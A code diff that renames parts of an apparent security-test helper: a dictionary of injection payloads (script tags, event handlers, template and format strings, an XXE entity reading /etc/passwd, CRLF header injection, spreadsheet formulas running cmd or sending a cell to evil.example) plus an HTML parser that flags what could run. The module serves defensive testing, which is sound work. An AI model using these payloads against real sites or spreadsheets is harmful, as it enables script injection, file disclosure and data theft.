@@ -8,20 +8,20 @@ import re
 import unicodedata
 from html.parser import HTMLParser
 
-STRANGER = "evil.example"
-WORKED_OUT = "67092481"
+FOREIGN_HOST = "evil.example"
+EVALUATED = "67092481"
 """8191 times 8191, which stands nowhere else."""
 
-EVERYWHERE = {
+ACCEPTED = {
     "script": "<script>alert(1)</script>",
     "the end of a script": "</script><script>alert(1)</script>",
     "the end of a title": "</title></textarea></style></svg><script>alert(1)</script>",
     "an image": "<img src=x onerror=alert(1)>",
-    "a stranger's image": f"<img src=//{STRANGER}/a.png><link rel=stylesheet href=//{STRANGER}/a.css>",
+    "a stranger's image": f"<img src=//{FOREIGN_HOST}/a.png><link rel=stylesheet href=//{FOREIGN_HOST}/a.css>",
     "svg": "<svg/onload=alert(1)><use href=data:image/svg+xml,x />",
-    "a frame": f'<iframe srcdoc="<script>alert(1)</script>"></iframe><object data=//{STRANGER}/a></object>',
-    "a base": f"<base href=//{STRANGER}/><meta http-equiv=refresh content=0;url=//{STRANGER}/>",
-    "a form": f"<form action=//{STRANGER}/><button autofocus onfocus=alert(1)>",
+    "a frame": f'<iframe srcdoc="<script>alert(1)</script>"></iframe><object data=//{FOREIGN_HOST}/a></object>',
+    "a base": f"<base href=//{FOREIGN_HOST}/><meta http-equiv=refresh content=0;url=//{FOREIGN_HOST}/>",
+    "a form": f"<form action=//{FOREIGN_HOST}/><button autofocus onfocus=alert(1)>",
     "an attribute": '" autofocus onfocus="alert(1)" x="',
     "an attribute in single quotes": "' autofocus onfocus='alert(1)' x='",
     "an attribute without quotes": "x onmouseover=alert(1) style=background:url(//evil.example/a)",
@@ -32,17 +32,17 @@ EVERYWHERE = {
     "a comment of a template": "{# x #}{#",
     "a comment": "<!-- <script>",
     "an address that runs": "javascript:alert(1)//",
-    "markdown": f"[x](javascript:alert(1)) ![x](//{STRANGER}/a.png)",
+    "markdown": f"[x](javascript:alert(1)) ![x](//{FOREIGN_HOST}/a.png)",
     "the end of character data": "]]><script>alert(1)</script><![CDATA[",
     "the end of character data alone": "a ]]> b",
-    "an element of its own": f"]]> </SimpleData><NetworkLink><href>//{STRANGER}/a</href></NetworkLink> &e; &A1;",
+    "an element of its own": f"]]> </SimpleData><NetworkLink><href>//{FOREIGN_HOST}/a</href></NetworkLink> &e; &A1;",
     "character references": "&lt;img src=x onerror=alert(1)&gt;&#60;script&#62;alert(1)&#60;/script&#62;",
     "an entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
     "escapes": r"\u003cscript\u003ealert(1)\x3c/script\x3e \074script\076",
     "a format": "{0.__class__} {name} {n} %s %(name)s $[name] $[description]",
     "separators of lines": "a\u2028alert(1)//\u2029b\u0085c",
     "a head of its own": "x\r\nSet-Cookie: stolen=1\r\n\r\n<script>alert(1)</script>",
-    "a formula": f'=HYPERLINK("http://{STRANGER}/?"&A1;"x")',
+    "a formula": f'=HYPERLINK("http://{FOREIGN_HOST}/?"&A1;"x")',
     "a formula with plus": "+cmd|' /C calc'!A0",
     "a formula with minus": "-2+3+cmd|' /C calc'!A0",
     "a formula with at": "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -55,7 +55,7 @@ EVERYWHERE = {
 }
 """Text like any other: kept as it was written and shown as it was written."""
 
-NOWHERE = {
+REFUSED = {
     "nul": "a\0b",
     "an escape sequence": "\x1b[2J\x1b]0;x\x07",
     "a control of the second kind": "a\x9bb",
@@ -70,31 +70,31 @@ NOWHERE = {
 }
 """What nobody types and what misleads or breaks XML: refused, and the field is named."""
 
-ALL = " ".join(one for name, one in EVERYWHERE.items() if name != "combining marks")
+ALL_ACCEPTED = " ".join(one for name, one in ACCEPTED.items() if name != "combining marks")
 """Everything at once, for a field that is shown once."""
 
-SHORT = "\"'`><img src=x onerror=alert(1)></script><script>alert(1)</script><!--{{8191*8191}}${alert(1)}{% x"
+SHORT_PAYLOAD = "\"'`><img src=x onerror=alert(1)></script><script>alert(1)</script><!--{{8191*8191}}${alert(1)}{% x"
 """The worst of it where there is little room."""
 
-MARKUP = [one for one in EVERYWHERE.values() if "<" in one]
+MARKUP = [one for one in ACCEPTED.values() if "<" in one]
 
 
-class _Reading(HTMLParser):
+class _PageInspector(HTMLParser):
     """What a browser's parser makes of a page, as far as something of somebody's could run or be fetched in it."""
 
     def __init__(self) -> None:
         super().__init__(convert_charrefs=True)
         self.faults: list[str] = []
-        self.said: list[str] = []
-        self.within = ""
+        self.texts: list[str] = []
+        self.current_tag = ""
 
     def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
-        self.within = tag
+        self.current_tag = tag
         given = {name: value or "" for name, value in attrs}
         if tag == "script" and given.get("type") != "application/json":
             if not re.fullmatch(r"/(static/[\w./-]+\.js|map\.js)", given.get("src", "")):
                 self.faults.append(f"script {given}")
-            self.within = "code"
+            self.current_tag = "code"
         if tag in ("iframe", "object", "embed", "base", "frame", "applet"):
             self.faults.append(tag)
         for name, value in given.items():
@@ -105,31 +105,37 @@ class _Reading(HTMLParser):
                 value,
             ):
                 self.faults.append(f"{tag} {name}={value}")
-            self.said.append(value)
+            self.texts.append(value)
 
     def handle_endtag(self, tag: str) -> None:
-        self.within = ""
+        self.current_tag = ""
 
     def handle_data(self, data: str) -> None:
-        if self.within == "code" and data.strip():
+        if self.current_tag == "code" and data.strip():
             self.faults.append(f"code {data[:60]}")
-        self.said.append(data)
+        self.texts.append(data)
 
     def handle_comment(self, data: str) -> None:
         self.faults.append(f"comment {data[:60]}")
 
 
-def read(html: str) -> tuple[list[str], str]:
+def inspect_page(html: str) -> tuple[list[str], str]:
     """What could run, be fetched or break out in a page, and the text that a reader sees of it, attributes too."""
-    reading = _Reading()
+    reading = _PageInspector()
     reading.feed(html)
     reading.close()
     faults = reading.faults + [f"stands there as it is: {one}" for one in MARKUP if one in html]
-    if WORKED_OUT in html:
+    if EVALUATED in html:
         faults.append("worked out")
-    return faults, "\n".join(reading.said)
+    return faults, "\n".join(reading.texts)
 
 
-def fitting(text: str, room: int) -> str:
+def fit_payload(text: str, max_length: int) -> str:
     """``text``, or the worst of it where it is too long."""
-    return text if len(text) <= room else SHORT if len(SHORT) <= room else SHORT[:room]
+    return (
+        text
+        if len(text) <= max_length
+        else SHORT_PAYLOAD
+        if len(SHORT_PAYLOAD) <= max_length
+        else SHORT_PAYLOAD[:max_length]
+    )
